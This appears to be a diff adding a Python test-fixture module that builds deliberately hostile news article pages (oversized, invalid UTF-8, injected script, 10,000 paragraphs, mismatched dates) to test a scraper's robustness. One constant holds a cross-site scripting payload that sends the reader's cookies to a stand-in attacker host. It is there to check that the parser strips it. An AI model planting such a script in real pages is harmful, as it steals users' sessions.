@@ -1,0 +1,86 @@
+"""Hostile article pages (`--hostile`), for reliability tests. They are listed like any
+other article on the corpus's first day (23:30–23:34 KST).
+
+- huge: a ~20 MB page (valid markup, one paragraph repeated)
+- bad_utf8: invalid UTF-8 byte sequences inside a paragraph (truth: decoded with U+FFFD)
+- script_title: a <script> element injected inside the title (truth: the title without it)
+- many_paragraphs: a 10,000-paragraph body
+- date_mismatch: the page's date is 400 days before the date carried by its id
+  (truth.published_at is the page's date; variations["id_date"] is the id's)
+"""
+
+from __future__ import annotations
+
+from dataclasses import replace
+from datetime import timedelta
+
+from yonhap.replica import markup
+from yonhap.replica import text as T
+
+HUGE_BYTES = 20 * 1024 * 1024
+MANY = 10_000
+SCRIPT = "<script>document.location='http://attacker.invalid/?c='+document.cookie</script>"
+BAD_BYTES = b"\xff\xfe\xc3(\xe2\x82"  # invalid start bytes, a broken 2-byte and a cut 3-byte seq
+_BAD_MARK = "\u2063BADBYTES\u2063"
+_SCRIPT_MARK = "\u2063SCRIPT\u2063"
+
+
+def hostile_truth(corpus, entry, article_id: str):
+    from yonhap.replica.corpus import ArticleTruth
+
+    kind = entry.hostile
+    pub = entry.pub
+    if kind == "date_mismatch":
+        pub = pub - timedelta(days=400)
+    rng = T.FastRandom(hash_seed(corpus, article_id))
+    topic = T.Topic(rng, "Actualités", pub.date())
+    dl = T.dateline("SEOUL", pub.date())
+    lead = topic.lead_sentence(rng)
+    paragraphs = [f"{dl} -- {lead}", *(topic.paragraph(rng) for _ in range(3))]
+    title = {"huge": "Un très long dossier", "bad_utf8": "Octets invalides dans le texte",
+             "script_title": "Alerte sur la péninsule", "many_paragraphs": "Dix mille paragraphes",
+             "date_mismatch": "Une date qui ne correspond pas"}[kind]
+    if kind == "huge":
+        filler = topic.paragraph(rng, 6)
+        paragraphs += [filler] * (HUGE_BYTES // (len(filler.encode()) + 8) + 1)
+    elif kind == "many_paragraphs":
+        paragraphs += [f"Paragraphe {i} : {topic.keyword}." for i in range(1, MANY - len(paragraphs) + 1)]
+    elif kind == "bad_utf8":
+        paragraphs[1] = f"{paragraphs[1]} {_BAD_MARK} fin."
+    variations = {"og": False, "published_meta": False, "jsonld": False, "br_body": False,
+                  "list_lead": False, "tracking": None, "entities": "plain", "n_photos": 0,
+                  "photo_after": [0, 0, 0], "cf_key": 1, "related": 0, "edited": False,
+                  "id_date": entry.pub.date().isoformat()}
+    truth = ArticleTruth(
+        article_id=article_id, url=f"{corpus.config.canonical_base}/view/{article_id}", title=title,
+        title_raw=title, version_label=None, section="Actualités", published_at=pub, updated_at=None,
+        dateline=dl, paragraphs=paragraphs, lead=lead, images=[], author_email=None,
+        story_id=article_id, duplicate_of=None, is_routine=False, has_edit=False, kind="hostile",
+        hostile=kind, variations=variations,
+    )
+    if kind == "bad_utf8":
+        decoded = BAD_BYTES.decode("utf-8", errors="replace")
+        truth.paragraphs = [p.replace(_BAD_MARK, decoded) for p in paragraphs]
+    return truth
+
+
+def hash_seed(corpus, article_id: str) -> int:
+    from yonhap.replica.corpus import derive
+
+    return derive(corpus.config.seed, "hostile", article_id)
+
+
+def hostile_page(corpus, truth) -> bytes:
+    kind = truth.hostile
+    if kind == "bad_utf8":
+        raw = replace(truth, paragraphs=[p.replace(BAD_BYTES.decode("utf-8", errors="replace"), _BAD_MARK)
+                                         for p in truth.paragraphs])
+        return markup.reference_article(corpus, raw).encode("utf-8").replace(
+            _BAD_MARK.encode("utf-8"), BAD_BYTES)
+    if kind == "script_title":
+        raw = replace(truth, title_raw=f"Alerte {_SCRIPT_MARK}sur la péninsule")
+        html = markup.reference_article(corpus, raw)
+        head, body = html.split("<body>", 1)
+        head = head.replace(_SCRIPT_MARK, "")
+        return (head + "<body>" + body.replace(_SCRIPT_MARK, SCRIPT)).encode("utf-8")
+    return markup.reference_article(corpus, truth).encode("utf-8")
